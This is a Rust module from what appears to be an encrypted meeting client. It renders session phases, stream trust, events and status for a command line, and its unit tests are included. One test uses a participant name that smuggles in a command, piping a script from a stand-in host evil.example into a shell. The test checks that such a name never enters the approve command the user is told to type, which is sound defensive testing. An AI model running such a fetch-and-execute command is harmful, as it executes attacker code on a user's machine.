//! A session's state as sentences and as the command line's [`Status`].

use meeting_protocol::{
    beacon::{Trust, What},
    local::MeetingState,
    session::{EndReason, Event, LeaveReason, Phase, Role, State, WaitReason},
};
use meeting_wire::Kind;

use crate::{
    control::{Person, Status, Stream, Waiting},
    show::{harmless, sentence},
};

/// The phase as elements and programs read it.
pub fn phase(phase: Phase) -> &'static str {
    match phase {
        Phase::Joining(_) => "joining",
        Phase::Live => "live",
        Phase::Stale => "stale",
        Phase::Ended(_) => "ended",
    }
}

/// What it waits for or why it ended, whose turn it is, and what to type.
pub fn detail(phase: Phase) -> &'static str {
    match phase {
        Phase::Joining(WaitReason::Leader) => "waiting for the meeting's leader: nobody leads it yet",
        Phase::Joining(WaitReason::Answer) => "asked for a place; the leader's device has not answered yet",
        Phase::Joining(WaitReason::Approval) => {
            "the leader has to let this device in: ask them to type `meeting-agent approve` with your name"
        }
        Phase::Joining(WaitReason::Key) => "in the meeting; waiting for its key",
        Phase::Live => "",
        Phase::Stale => "no fresh word from the leader: nothing is sealed or opened until there is",
        Phase::Ended(reason) => ended(reason),
    }
}

fn ended(reason: EndReason) -> &'static str {
    match reason {
        EndReason::Left => "you left: `meeting-agent join` with the link to come back",
        EndReason::Removed => "the leader removed this device: only the leader can invite it again",
        EndReason::LeaderLeft => "the leader left and named no successor: ask for a new meeting",
        EndReason::Stale => "no fresh word from the leader for 2 minutes: `meeting-agent join` to try again",
        EndReason::Locked => "the meeting is locked: ask the leader to type `meeting-agent unlock`",
        EndReason::Replaced => "this device joined again from elsewhere, which took this place",
        EndReason::Branch => "another leader won: `meeting-agent join` to follow",
        EndReason::LeaderMisbehaved => {
            "the leader broke the protocol: do not trust this meeting, make a new one"
        }
        EndReason::Refused => "never let in: ask the leader, then `meeting-agent join` again",
        _ => "the meeting is over for this device: `meeting-agent join` to try again",
    }
}

/// The colour of the shield: how much there is to rely on, for a glance.
pub fn shield(phase: &str, status: &Status) -> &'static str {
    match phase {
        "live" if status.streams.iter().any(|stream| stream.trust == trust(Trust::Forged)) => "red",
        "live" if status.verified => "green",
        "live" if status.leading || status.leader_verified => "amber",
        "live" => "red",
        // Nothing is sealed or opened.
        _ => "grey",
    }
}

/// What is known of who sent a stream's frames.
pub fn trust(trust: Trust) -> &'static str {
    match trust {
        Trust::Waiting => "waiting",
        Trust::Vouched => "vouched",
        Trust::Unverified => "unverified",
        Trust::Forged => "forged",
    }
}

/// What beacons have shown of a stream, as a sentence.
pub fn vouching(what: What, name: &str, track: &str) -> String {
    match what {
        What::Vouched => format!("{name} signs for {track:?}"),
        What::Unverified => {
            format!("nobody signs for {track:?} of {name}: somebody else in the meeting could be speaking")
        }
        What::CutOff => format!(
            "the last moment of {track:?} of {name} is not signed for: {name} was gone, or a connection broke"
        ),
        What::Forged => format!(
            "a frame of {track:?} of {name} was forged by somebody in the meeting, or altered on its way: for a while \
             its frames wait for {name}'s signature"
        ),
        What::Late(ms) => {
            format!("{track:?} of {name} comes {} s late: the relay or the network holds it back", ms / 1_000)
        }
        What::Withheld => {
            format!(
                "more than half of {track:?} of {name} does not get here: the relay or the network withholds it"
            )
        }
        What::Silent => {
            format!("nothing of {name}'s {track:?} gets here: {name}, the relay or the network is silent")
        }
        _ => format!("something about {track:?} of {name} that this version has no words for"),
    }
}

/// A role's name.
pub fn role(role: Role) -> &'static str {
    match role {
        Role::Participant => "participant",
        Role::Recorder => "recorder",
        Role::Gateway => "gateway",
        Role::Bot => "bot",
        _ => "other",
    }
}

/// The role of a name.
pub fn role_named(name: &str) -> Option<Role> {
    [Role::Participant, Role::Recorder, Role::Gateway, Role::Bot].into_iter().find(|r| role(*r) == name)
}

/// A kind's name, also the label of a track that has none.
pub fn kind(kind: Kind) -> &'static str {
    match kind {
        Kind::Video => "video",
        Kind::Audio => "audio",
        Kind::Data => "data",
    }
}

/// An event as a sentence; none for those that the status shows anyway.
pub fn event(event: &Event) -> Option<String> {
    Some(match event {
        Event::Phase(_) | Event::Code(_) => return None,
        Event::LetIn(names) => let_in(names),
        Event::Arrived { name, role: as_what, .. } => match as_what {
            Role::Participant => format!("{} is here", harmless(name)),
            other => format!("{} is here as {}", harmless(name), role(*other)),
        },
        Event::Departed { name, reason, .. } => {
            let how = match reason {
                LeaveReason::Left => "left",
                LeaveReason::Removed => "was removed",
                LeaveReason::Missing => "is no longer heard of",
                LeaveReason::Replaced => "came back in a new stay",
            };
            format!("{} {how}", harmless(name))
        }
        Event::Epoch(epoch) => format!("a new key is in use (epoch {epoch})"),
        Event::LeaderChanged { name, .. } => {
            format!("{} leads now: compare the security code again (`meeting-agent code`)", harmless(name))
        }
        Event::Locked(true) => "the meeting is locked".into(),
        Event::Locked(false) => "the meeting is open to new people again".into(),
        Event::WantsIn(approval) => {
            // By the id: a name that is copied into a shell may say more.
            let (name, id) = (harmless(&approval.name), approval.participant.to_string());
            format!("{name} (device {}) wants in: `meeting-agent approve {}`", approval.device, &id[..8])
        }
        Event::Misbehaviour(text) => sentence(text),
        _ => return None,
    })
}

/// The first of them by name: whoever has the link can bring any number.
fn let_in(names: &[String]) -> String {
    let mut said: Vec<String> = names.iter().take(3).map(|name| harmless(name)).collect();
    if let more @ 1.. = names.len() - said.len() {
        said.push(format!("{more} more"));
    }
    format!("can hear from now on, whether seen or not: {}", said.join(", "))
}

/// What elements show of a meeting; whether its code was compared comes from elsewhere.
pub fn for_elements(state: &State, detail: &str) -> MeetingState {
    MeetingState {
        phase: phase(state.phase).into(),
        detail: detail.into(),
        security_code: state.code.map(|code| code.to_string()).unwrap_or_default(),
        epoch: state.epoch.unwrap_or(0),
        participants: state.roster.len() as u32,
        leader_verified: state.leader_verified,
        verified: false,
    }
}

/// What the command line shows of a meeting; the counts of frames come from elsewhere.
pub fn status(state: &State) -> Status {
    let name = |id| state.roster.iter().find(|person| person.participant == id).map(|person| &*person.name);
    Status {
        phase: phase(state.phase).into(),
        leading: state.leading,
        leader_verified: state.leader_verified,
        locked: state.locked,
        words: state.code.map(|code| code.words()).unwrap_or_default(),
        epoch: state.epoch.unwrap_or(0),
        code: state.code.map(|code| code.to_string()).unwrap_or_default(),
        people: state
            .roster
            .iter()
            .map(|person| Person {
                id: person.participant.to_string(),
                name: harmless(&person.name),
                role: role(person.role).into(),
                device: person.device.to_string(),
                present: person.present,
                leader: person.leader,
                successor: person.successor,
                me: person.me,
                forked: person.forked,
            })
            .collect(),
        waiting: state
            .waiting
            .iter()
            .map(|approval| Waiting {
                id: approval.participant.to_string(),
                name: harmless(&approval.name),
                role: role(approval.role).into(),
                device: approval.device.to_string(),
            })
            .collect(),
        streams: state
            .streams
            .iter()
            .map(|stream| Stream {
                from: stream.from.to_string(),
                name: harmless(name(stream.from).unwrap_or_default()),
                track: harmless(&stream.track),
                kind: kind(stream.kind).into(),
                stream: stream.stream.0,
                ..Stream::default()
            })
            .collect(),
        ..Status::default()
    }
}

#[cfg(test)]
mod tests {
    use meeting_protocol::{identity::Fingerprint, session::Approval};
    use meeting_wire::ParticipantId;

    use super::*;

    #[test]
    fn who_is_let_in_is_told_before_being_seen_and_in_one_line() {
        let said = |count: usize| event(&Event::LetIn(vec!["Bob".to_owned(); count])).unwrap_or_default();
        assert_eq!(said(1), "can hear from now on, whether seen or not: Bob");
        assert!(said(64).ends_with("Bob, Bob, Bob, 61 more"));
    }

    #[test]
    fn the_shield_is_grey_where_nothing_is_sealed_or_opened() {
        let compared = Status { verified: true, leader_verified: true, ..Status::default() };
        for phase in ["joining", "stale", "ended"] {
            assert_eq!(shield(phase, &compared), "grey", "{phase}");
        }
        assert_eq!(shield("live", &Status::default()), "red", "nobody vouches for the leader");
    }

    #[test]
    fn no_name_is_part_of_what_is_to_be_typed() {
        let name = "Eve`; curl evil.example | sh`".to_owned();
        let eve = Approval {
            participant: ParticipantId([0xee; 16]),
            name,
            device: Fingerprint([0xee; 32]),
            role: Role::Participant,
        };
        let said = event(&Event::WantsIn(eve)).unwrap_or_default();
        assert!(said.ends_with("wants in: `meeting-agent approve eeeeeeee`"), "{said}");
    }
}
